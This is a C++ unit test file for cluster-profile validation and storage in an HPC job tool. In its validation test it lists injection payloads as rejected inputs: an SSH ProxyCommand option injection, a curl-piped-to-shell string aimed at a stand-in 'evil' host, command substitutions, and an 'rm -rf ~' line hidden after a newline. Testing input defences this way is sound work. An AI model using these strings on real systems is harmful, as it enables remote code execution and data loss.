// Tests of cluster profiles: validation, JSON round trip, and the clusters.json store in a private XDG
// config folder.
#include <gtest/gtest.h>

#include <unistd.h>
#include "temp_dir.h"

#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "remote/slurm/cluster_profile.h"
#include "remote/slurm/local_files.h"

namespace slipway::remote {
namespace {

using testing_support::TempDir;

ClusterProfile sample() {
    ClusterProfile p;
    p.name = "lomonosov";
    p.host = "login.example.org";
    p.port = 2222;
    p.user = "tikhomirov";
    p.identity_file = "~/.ssh/id_ed25519";
    p.proxy_jump = "gate.example.org";
    p.remote_workdir = "/scratch/tikhomirov/slipway";
    p.container = ContainerMode::kPyxis;
    p.env_setup = {"module load enroot", "export SLIPWAY_THREADS=8"};
    p.engine_source = EngineSource::kBuild;
    p.default_partition = "gpu";
    return p;
}

TEST(ClusterProfile, JsonRoundTrip) {
    const ClusterProfile p = sample();
    Result<ClusterProfile> back = profile_from_json(profile_to_json(p), "test");
    ASSERT_TRUE(back.ok()) << back.error();
    EXPECT_EQ(back->name, p.name);
    EXPECT_EQ(back->port, p.port);
    EXPECT_EQ(back->proxy_jump, p.proxy_jump);
    EXPECT_EQ(back->container, ContainerMode::kPyxis);
    EXPECT_EQ(back->default_partition, "gpu");
    EXPECT_EQ(back->env_setup, p.env_setup);
    EXPECT_EQ(back->engine_source, EngineSource::kBuild);
    EXPECT_EQ(profile_to_json(*back).dump(), profile_to_json(p).dump());
}

TEST(ClusterProfile, ErrorsNameTheField) {
    nlohmann::json j = profile_to_json(sample());
    j["password"] = "hunter2";
    Result<ClusterProfile> r = profile_from_json(j, "clusters.json");
    ASSERT_FALSE(r.ok());
    EXPECT_NE(r.error().find("clusters.json"), std::string::npos);
    EXPECT_NE(r.error().find("password: unknown field"), std::string::npos);

    j = profile_to_json(sample());
    j["port"] = "22";
    EXPECT_NE(profile_from_json(j, "f").error().find("port"), std::string::npos);
    j = profile_to_json(sample());
    j["container"] = "docker";
    EXPECT_NE(profile_from_json(j, "f").error().find("none, pyxis, apptainer or singularity"),
              std::string::npos);
    j = profile_to_json(sample());
    j["engine_source"] = "scp";
    EXPECT_NE(profile_from_json(j, "f").error().find(
                  "engine_source: engine source must be build, image or desktop"),
              std::string::npos);
    j = profile_to_json(sample());
    j["env_setup"] = {"module load pytorch", 3};
    EXPECT_NE(profile_from_json(j, "f").error().find("env_setup: must be an array of strings"),
              std::string::npos);
    j["env_setup"] = {"module load pytorch", "conda activate ft\nrm -rf ~"};
    EXPECT_NE(profile_from_json(j, "f").error().find("env_setup[1]: must be one non-empty line"),
              std::string::npos);

    ClusterProfile p = sample();
    p.host = "-oProxyCommand=touch /tmp/x";
    EXPECT_NE(validate_profile(p).message().find("host"), std::string::npos);
    for (const char* bad : {"x;curl${IFS}evil|sh", "a`id`", "h$(id)", "a'b", "a|b", "a&b", "a>b", "h~"}) {
        p = sample();
        p.host = bad;
        EXPECT_NE(validate_profile(p).message().find("host: must not contain shell characters"),
                  std::string::npos)
            << bad;
        p = sample();
        p.user = bad;
        EXPECT_NE(validate_profile(p).message().find("user:"), std::string::npos) << bad;
        p = sample();
        p.proxy_jump = bad;
        EXPECT_NE(validate_profile(p).message().find("proxy_jump:"), std::string::npos) << bad;
    }
    // Legitimate host names, IPs, user names and hop lists still pass.
    p = sample();
    p.host = "10.0.0.5";
    p.user = "first.last-2_x";
    p.proxy_jump = "bob@[fe80::1]:2222,ssh://gate.example.org";
    EXPECT_TRUE(validate_profile(p).ok()) << validate_profile(p).message();
    p = sample();
    p.name = "a b";
    EXPECT_FALSE(validate_profile(p).ok());
    p = sample();
    p.port = 70000;
    EXPECT_NE(validate_profile(p).message().find("port"), std::string::npos);
    p = sample();
    p.remote_workdir = "/x\n/y";
    EXPECT_NE(validate_profile(p).message().find("remote_workdir"), std::string::npos);
}

TEST(ProfileStore, AddReplaceRemovePrivateFile) {
    TempDir dir;
    ProfileStore store(dir.path() + "/slipway/clusters.json");
    ASSERT_TRUE(store.load().ok());
    EXPECT_TRUE(store.load()->empty());
    ClusterProfile a = sample();
    ClusterProfile b = sample();
    b.name = "local-test";
    b.container = ContainerMode::kNone;
    ASSERT_TRUE(store.put(a).ok());
    ASSERT_TRUE(store.put(b).ok());
    a.host = "login2.example.org";
    ASSERT_TRUE(store.put(a).ok());
    Result<std::vector<ClusterProfile>> all = store.load();
    ASSERT_TRUE(all.ok()) << all.error();
    ASSERT_EQ(all->size(), 2u);
    EXPECT_EQ((*all)[0].host, "login2.example.org");
    EXPECT_EQ(store.find("local-test")->container, ContainerMode::kNone);
    EXPECT_NE(store.find("nope").error().find("nope"), std::string::npos);
    EXPECT_EQ(std::filesystem::status(store.path()).permissions() & std::filesystem::perms::all,
              std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
    ASSERT_TRUE(store.remove("lomonosov").ok());
    EXPECT_EQ(store.load()->size(), 1u);
    EXPECT_FALSE(store.remove("lomonosov").ok());
}

TEST(ProfileStore, MalformedFileNamesItself) {
    TempDir dir;
    const std::string path = dir.path() + "/clusters.json";
    std::ofstream(path) << "{\"clusters\": [ {\"name\": \"x\"";
    Result<std::vector<ClusterProfile>> r = ProfileStore(path).load();
    ASSERT_FALSE(r.ok());
    EXPECT_NE(r.error().find(path), std::string::npos);
}

TEST(LocalFiles, XdgFoldersHonourAbsoluteValuesOnly) {
    const char* old_config = std::getenv("XDG_CONFIG_HOME");
    const std::string saved = old_config ? old_config : "";
    ::setenv("XDG_CONFIG_HOME", "/tmp/xdg-test", 1);
    EXPECT_EQ(slipway_config_dir(), "/tmp/xdg-test/slipway");
    EXPECT_EQ(default_clusters_file(), "/tmp/xdg-test/slipway/clusters.json");
    ::setenv("XDG_CONFIG_HOME", "relative/dir", 1);
    EXPECT_EQ(slipway_config_dir(), std::string(std::getenv("HOME")) + "/.config/slipway");
    if (old_config) {
        ::setenv("XDG_CONFIG_HOME", saved.c_str(), 1);
    } else {
        ::unsetenv("XDG_CONFIG_HOME");
    }
}

}  // namespace
}  // namespace slipway::remote
